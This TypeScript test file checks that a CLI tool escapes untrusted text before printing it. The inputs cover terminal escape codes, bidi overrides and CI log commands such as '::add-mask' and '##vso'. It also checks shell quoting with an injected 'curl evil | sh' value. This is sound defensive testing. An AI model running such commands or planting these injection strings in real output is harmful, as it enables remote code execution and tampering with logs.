import { textOf } from '../../constructs/synthesis/text';
import { cases } from '../../tests/cases';
import { synthesisOf } from '../../tests/objects';
import { shellWord } from './shell';
import { printed, writeLine, writeLines } from './terminal';

/** What a stream gets. */
function written(isTTY: boolean, write: (stream: NodeJS.WriteStream) => void): string {
  let text = '';
  write({
    isTTY,
    write: (chunk: string) => {
      text += chunk;
      return true;
    },
  } as unknown as NodeJS.WriteStream);
  return text;
}

describe('a text from outside does nothing where it is shown', () => {
  test.each([
    ['a second line', 'a\nb', 'a\\u{a}b'],
    ['a carriage return', 'a\rb', 'a\\u{d}b'],
    ['a line separator', 'a\u2028b', 'a\\u{2028}b'],
    ['a control sequence', '\u001b[2Ja', '\\u{1b}[2Ja'],
    ['a control sequence in one byte', '\u009b2Ja', '\\u{9b}2Ja'],
    ['the title of a window', '\u001b]0;a\u0007', '\\u{1b}]0;a\\u{7}'],
    ['letters that turn round', 'a\u202eb', 'a\\u{202e}b'],
    ['half a surrogate pair', 'a\ud800b', 'a\\u{d800}b'],
    ['a command to GitHub Actions', '::error file=x::y', '\\u{3a}:error file=x::y'],
    ['one behind spaces', '  ::add-mask::y', '  \\u{3a}:add-mask::y'],
    ['one in the form of before', 'a ##[error]b', 'a #\\u{23}[error]b'],
    ['a command to Azure Pipelines', 'a ##vso[task.setvariable]b', 'a #\\u{23}vso[task.setvariable]b'],
  ])('%s', (_, text, shown) => {
    expect(printed(text)).toBe(shown);
    expect(printed(shown)).toBe(shown);
  });

  test('and what is harmless stays as it is', () => {
    const text = 'exposure.nginxIngress.host: "chat.example.com" – São Paulo, 2001:db8::/32, a::b, ## c';
    expect(printed(text)).toBe(text);
  });
});

describe('a line of a command', () => {
  test('is one line, with our colours in a terminal and without any in a pipe', () => {
    const line = '\u001b[31m::error\u001b[39m\n::warning\u001b[8m';
    expect(written(true, (stream) => writeLine(stream, line))).toBe(
      '\u001b[31m\\u{3a}:error\u001b[39m\\u{a}::warning\\u{1b}[8m\n',
    );
    expect(written(false, (stream) => writeLine(stream, line))).toBe(
      '\\u{1b}[31m::error\\u{1b}[39m\\u{a}::warning\\u{1b}[8m\n',
    );
  });

  test('a text of ours keeps its lines', () => {
    expect(written(false, (stream) => writeLines(stream, 'a\n\n  ::b\n'))).toBe('a\n\n  \\u{3a}:b\n');
  });

  test('nothing of the output needs another form to be shown', () => {
    const texts = Object.values(cases).flatMap((settings) => synthesisOf(settings).manifests.map(textOf));
    // Most lines stand in all of them.
    const lines = [...new Set(texts.flatMap((text) => text.split('\n')))];
    expect(lines.length).toBeGreaterThan(1000);
    expect(written(true, (stream) => writeLines(stream, lines.join('\n')))).toBe(`${lines.join('\n')}\n`);
  });
});

test('a word of a command is quoted where the shell would do something else with it', () => {
  expect(['dist/physics', 'a@b:1', ''].map(shellWord)).toEqual(['dist/physics', 'a@b:1', "''"]);
  expect(shellWord('x; curl evil | sh #')).toBe("'x; curl evil | sh #'");
  expect(shellWord("it's $(here)")).toBe("'it'\\''s $(here)'");
});
